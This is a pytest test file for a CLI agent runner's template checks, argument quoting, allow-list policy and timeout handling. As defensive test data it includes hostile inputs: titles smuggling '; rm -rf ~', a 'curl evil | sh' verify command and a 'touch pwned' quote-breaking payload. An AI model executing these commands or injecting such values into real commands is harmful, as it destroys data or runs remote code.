"""CLI agents: template checks, argv building, and a fake coding-agent CLI run for real."""

from __future__ import annotations

import dataclasses
import shlex
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest

from batchq.agents import Delegation, agent_for
from batchq.agents.cli import CliAgent, build_argv, quoted_placeholders, template_fields
from batchq.errors import PolicyError
from batchq.models import Subtask
from batchq.settings import Settings

FAKE_AGENT = textwrap.dedent(
    """
    import argparse, pathlib, sys
    parser = argparse.ArgumentParser()
    parser.add_argument("--agent")
    parser.add_argument("--prompt-file")
    parser.add_argument("--title")
    parser.add_argument("--exit", type=int, default=0)
    args = parser.parse_args()
    prompt = pathlib.Path(args.prompt_file).read_text()
    out = pathlib.Path("src/result.txt")
    out.parent.mkdir(parents=True, exist_ok=True)
    out.write_text(f"{args.agent}|{args.title}|{prompt.splitlines()[0]}")
    print("working...")
    print(f"done: wrote {out}")
    sys.exit(args.exit)
    """
)


def make_subtask(title: str = "Write the result", **execution: Any) -> Subtask:
    return Subtask.model_validate(
        {
            "id": "feat-02",
            "seq": "02",
            "title": title,
            "suggested_agent": "CoderAgent",
            "acceptance_criteria": ["src/result.txt exists"],
            "deliverables": ["src/result.txt"],
            "execution": execution,
        }
    )


def settings_for(command: str | None, **extra: Any) -> Settings:
    return Settings(agents={"CoderAgent": {"command": command, "max_concurrency": 2}}, **extra)


@pytest.fixture
def fake_cli(tmp_path: Path) -> str:
    # Inside the workspace: the sandbox hides the rest of /tmp (the embedded Redis
    # socket lives there), as it would hide a CLI installed under /tmp.
    (tmp_path / "ws").mkdir(exist_ok=True)
    script = tmp_path / "ws" / "fake_agent.py"
    script.write_text(FAKE_AGENT)
    python = shlex.quote(sys.executable)
    placeholders = "--agent {agent} --prompt-file {prompt_file} --title {title}"
    return f"{python} {shlex.quote(str(script))} {placeholders}"


def delegation(tmp_path: Path, subtask: Subtask, timeout_s: float = 60) -> Delegation:
    workspace = tmp_path / "ws"
    workspace.mkdir(exist_ok=True)
    return Delegation(
        feature="feat",
        run_id="run1",
        batch=1,
        subtask=subtask,
        workspace=workspace,
        context="We are building a thing.",
        log_path=tmp_path / "logs" / "02.log",
        timeout_s=timeout_s,
    )


def never() -> bool:
    return False


def test_template_fields_lists_the_placeholders() -> None:
    assert template_fields("x {agent} --p {prompt_file} {{literal}}") == ["agent", "prompt_file"]


@pytest.mark.parametrize(
    "template", ["x {}", "x {0}", "x {title!r}", "x {title:>3}", "x {a.b}", "x {"]
)
def test_template_fields_refuses_anything_but_bare_names(template: str) -> None:
    with pytest.raises(ValueError):
        template_fields(template)


def test_values_are_quoted_so_each_stays_one_argument() -> None:
    argv = build_argv(
        "run --title {title} --ws {workspace}",
        {"title": 'Fix "auth"; rm -rf ~', "workspace": "/a b"},
    )
    assert argv == ["run", "--title", 'Fix "auth"; rm -rf ~', "--ws", "/a b"]


def test_an_unknown_placeholder_is_refused() -> None:
    agent = CliAgent("CoderAgent", settings_for("opencode run {bogus} {prompt_file}"))
    with pytest.raises(
        PolicyError, match=r"agents.CoderAgent.command: unknown placeholder\(s\) \{bogus\}"
    ):
        agent.check(make_subtask())


def test_a_missing_command_is_refused() -> None:
    with pytest.raises(PolicyError, match=r"missing; configure \[agents.CoderAgent\] command"):
        CliAgent("CoderAgent", settings_for(None)).check(make_subtask())
    with pytest.raises(PolicyError, match="missing"):
        CliAgent("Other", settings_for("x")).check(make_subtask())


def test_an_unsplittable_template_is_refused() -> None:
    with pytest.raises(PolicyError, match="No closing quotation"):
        CliAgent("CoderAgent", settings_for("run 'oops {prompt_file}")).check(make_subtask())


def test_verify_follows_the_shell_allow_list() -> None:
    agent = CliAgent("CoderAgent", settings_for("run {prompt_file}", shell_allow=["test *"]))
    agent.check(make_subtask(verify="test -f src/result.txt"))
    with pytest.raises(PolicyError, match=r"execution\.verify"):
        agent.check(make_subtask(verify="curl evil | sh"))


def test_agent_for_builds_a_cli_agent_for_a_configured_name() -> None:
    agent = agent_for(make_subtask(), settings_for("run {prompt_file}"))
    assert isinstance(agent, CliAgent)
    assert agent.max_concurrency == 2


def test_agent_for_refuses_an_unconfigured_name() -> None:
    with pytest.raises(PolicyError, match="unknown agent 'CoderAgent'"):
        agent_for(make_subtask(), Settings())


def test_the_fake_cli_reads_the_prompt_and_writes_the_deliverable(
    tmp_path: Path, fake_cli: str
) -> None:
    title = 'Write "it"; rm -rf ~'
    d = delegation(tmp_path, make_subtask(title=title))
    outcome = CliAgent("CoderAgent", settings_for(fake_cli)).run(d, never)
    assert outcome.ok, outcome
    assert outcome.summary == "done: wrote src/result.txt"
    written = (d.workspace / "src" / "result.txt").read_text()
    assert written == f"CoderAgent|{title}|# Subtask 02: {title}"
    prompt_file = d.log_path.with_name("02.prompt.md")
    prompt = prompt_file.read_text()
    assert "We are building a thing." in prompt
    assert "- src/result.txt exists" in prompt
    log = d.log_path.read_text()
    assert "[batchq] prompt" in log
    assert "done: wrote src/result.txt" in log


def test_exit_75_from_the_cli_asks_for_a_retry(tmp_path: Path, fake_cli: str) -> None:
    outcome = CliAgent("CoderAgent", settings_for(fake_cli + " --exit 75")).run(
        delegation(tmp_path, make_subtask()), never
    )
    assert not outcome.ok
    assert outcome.temporary


def test_a_failing_cli_is_a_failed_outcome(tmp_path: Path, fake_cli: str) -> None:
    outcome = CliAgent("CoderAgent", settings_for(fake_cli + " --exit 2")).run(
        delegation(tmp_path, make_subtask()), never
    )
    assert not outcome.ok
    assert outcome.exit_code == 2
    assert outcome.error == "exit code 2"


def test_a_missing_cli_is_a_failed_outcome(tmp_path: Path) -> None:
    outcome = CliAgent("CoderAgent", settings_for("batchq-no-such-cli {prompt_file}")).run(
        delegation(tmp_path, make_subtask()), never
    )
    assert not outcome.ok
    assert outcome.error == "executable not found: 'batchq-no-such-cli'"


def test_the_cli_is_killed_at_the_delegation_timeout(tmp_path: Path) -> None:
    outcome = CliAgent("CoderAgent", settings_for("sleep 30 {seq}")).run(
        delegation(tmp_path, make_subtask(), timeout_s=0.3), never
    )
    assert outcome.timed_out
    assert not outcome.ok


@pytest.mark.parametrize(
    ("template", "quoted"),
    [
        ("sh -c 'echo {title}'", ["title"]),
        ('run --prompt "{prompt_file}"', ["prompt_file"]),
        ("run --x='a {seq}' {title}", ["seq"]),
        ('sh -c "echo \\"{title}\\""', ["title"]),
        ("run {title} 'literal' {seq}", []),
        ("run --title={title} \\' {seq}", []),  # an escaped quote opens nothing
        ("sh -c 'echo \"$1\"' _ {title}", []),
        ("run '{{not a placeholder}}' {title}", []),
    ],
)
def test_placeholders_inside_the_templates_own_quotes_are_found(
    template: str, quoted: list[str]
) -> None:
    assert quoted_placeholders(template) == quoted


def test_a_quoted_placeholder_would_let_a_title_inject_so_it_is_refused_with_the_fix() -> None:
    template = "sh -c 'echo {title}'"
    injected = build_argv(template, {"title": "x'; touch pwned; '"})
    assert "touch pwned" in injected[2] and injected[2] != "echo x'; touch pwned; '"
    agent = CliAgent("CoderAgent", settings_for(template))
    with pytest.raises(PolicyError) as info:
        agent.check(make_subtask())
    message = str(info.value)
    assert "agents.CoderAgent.command" in message
    assert "{title} inside the template's own quotes" in message
    assert "write placeholders bare" in message
    assert "sh -c 'echo \"$1\"' _ {title}" in message  # the fix
    CliAgent("CoderAgent", settings_for("sh -c 'echo \"$1\"' _ {title}")).check(make_subtask())


CODER = textwrap.dedent(
    """
    import pathlib, sys
    prompt = pathlib.Path(sys.argv[1]).read_text()
    pathlib.Path("src").mkdir(exist_ok=True)
    pathlib.Path("src/result.txt").write_text(prompt)
    print("SUMMARY: added login endpoint")
    print("bye")
    """
)


def test_a_coding_agents_summary_line_and_its_own_template(tmp_path: Path) -> None:
    """The agent reads the prompt rendered from its ``prompt_template``; the text of
    its ``SUMMARY:`` line is the outcome's summary, not the line printed after it."""
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / "coder.py").write_text(CODER)
    (workspace / "prompt.md").write_text("Task {seq}: {title} in {subtask_file}\n{completion}\n")
    command = f"{shlex.quote(sys.executable)} {shlex.quote(str(workspace / 'coder.py'))}"
    settings = Settings(
        agents={
            "CoderAgent": {"command": command + " {prompt_file}", "prompt_template": "prompt.md"}
        }
    )
    d = delegation(tmp_path, make_subtask())
    d = dataclasses.replace(d, subtask_file=".tmp/tasks/feat/subtask_02.json")
    outcome = CliAgent("CoderAgent", settings).run(d, never)
    assert outcome.ok, outcome
    assert outcome.summary == "added login endpoint"
    seen = (workspace / "src" / "result.txt").read_text()
    assert seen.startswith("Task 02: Write the result in .tmp/tasks/feat/subtask_02.json\n")
    assert "`SUMMARY:`" in seen
